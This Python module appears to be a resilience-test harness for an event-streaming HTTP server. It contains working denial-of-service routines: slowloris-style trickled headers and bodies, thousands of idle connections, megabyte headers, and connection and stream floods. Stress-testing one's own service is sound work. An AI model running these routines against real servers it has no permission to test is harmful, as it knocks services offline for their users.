"""Attacks by whoever can connect: requests that never end, and too many of them."""

import asyncio
from asyncio import StreamReader, StreamWriter

from attacks.target import Target, each, get, random_names

_MIB = 1_048_576


async def slow_heads(target: Target) -> None:
    """1,000 connections that send a byte of a request's head each second, and come back when they are closed."""
    await each(1000, lambda: _trickle(target, b"GET /events?channel=a HTTP/1.1\r\nHost: a\r\nX: "))


async def slow_bodies(target: Target) -> None:
    """1,000 connections that announce a megabyte for POST /publish, send 60 kB of it, and then a byte each second."""
    head = b"POST /publish/a HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n"
    await each(1000, lambda: _trickle(target, head + b"x" * 60_000))


async def silent(target: Target) -> None:
    """2,000 connections that send nothing at all."""
    await each(2000, lambda: _trickle(target, b"", b""))


async def huge_heads(target: Target) -> None:
    """Heads of a megabyte, 20 connections at a time."""
    await each(20, lambda: target.ask(b"GET / HTTP/1.1\r\nHost: a\r\n" + b"X-A: " + b"a" * _MIB))


async def floods(target: Target) -> None:
    """New streams as fast as 20 connections at a time can ask for them; each is left open."""
    held: list[tuple[StreamReader, StreamWriter]] = []

    async def open_one() -> None:
        reader, writer = await target.connect()
        writer.write(get(["flood"]))
        if b"200" in await reader.read(4096) and len(held) < 15_000:
            held.append((reader, writer))
        else:
            writer.close()

    await each(20, open_one)


async def many_channels(target: Target) -> None:
    """Streams of 100 channels that nobody has asked for before, 10 at a time, closed at once."""

    async def open_one() -> None:
        await target.ask(get(random_names(100)))

    await each(10, open_one)


async def many_patterns(target: Target) -> None:
    """200 streams of 10 patterns each, and then more."""

    async def open_one() -> None:
        reader, writer = await target.connect()
        writer.write(get(["a"], patterns=[f"{name}*" for name in random_names(10)]))
        while await reader.read(4096):
            pass
        writer.close()

    await each(200, open_one)


async def _trickle(target: Target, first: bytes, more: bytes = b"x") -> None:
    reader, writer = await target.connect()
    try:
        writer.write(first)
        answered = asyncio.ensure_future(reader.read(1))
        while not answered.done():
            await asyncio.wait((answered,), timeout=1)
            writer.write(more)
            await writer.drain()
    finally:
        answered.cancel()
        writer.close()
